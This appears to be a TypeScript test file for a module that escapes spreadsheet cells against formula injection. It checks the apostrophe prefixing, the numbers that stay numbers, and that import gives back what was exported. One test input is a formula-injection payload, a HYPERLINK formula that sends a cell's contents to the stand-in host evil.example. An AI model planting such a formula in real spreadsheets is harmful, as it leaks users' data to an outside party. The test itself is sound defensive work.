import * as fc from 'fast-check';
import { fromSpreadsheetText, toSpreadsheetRow, toSpreadsheetText } from './spreadsheet-cells';

describe('spreadsheet cells', () => {
  it('neutralises text that a spreadsheet would take for a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(toSpreadsheetText(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(toSpreadsheetText('=HYPERLINK("http://evil.example/?x="&B2,"Open")')).toBe(`'=HYPERLINK("http://evil.example/?x="&B2,"Open")`);
    expect(toSpreadsheetText("'=1")).toBe("''=1");
  });

  it('leaves other text alone', () => {
    for (const text of ['', 'Crisis cell', ' =not first', "it's", "'quoted", '1-2']) expect(toSpreadsheetText(text)).toBe(text);
  });

  it('keeps numbers as numbers, negative ones included', () => {
    expect(toSpreadsheetRow({ a: -3, b: '-3', c: true, d: null })).toEqual({ a: -3, b: "'-3", c: true, d: null });
  });

  it('imports back exactly what was exported, for any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ') }), (text) => fromSpreadsheetText(toSpreadsheetText(text)) === text),
    );
    fc.assert(fc.property(fc.string(), (text) => fromSpreadsheetText(toSpreadsheetText(text)) === text));
  });
});
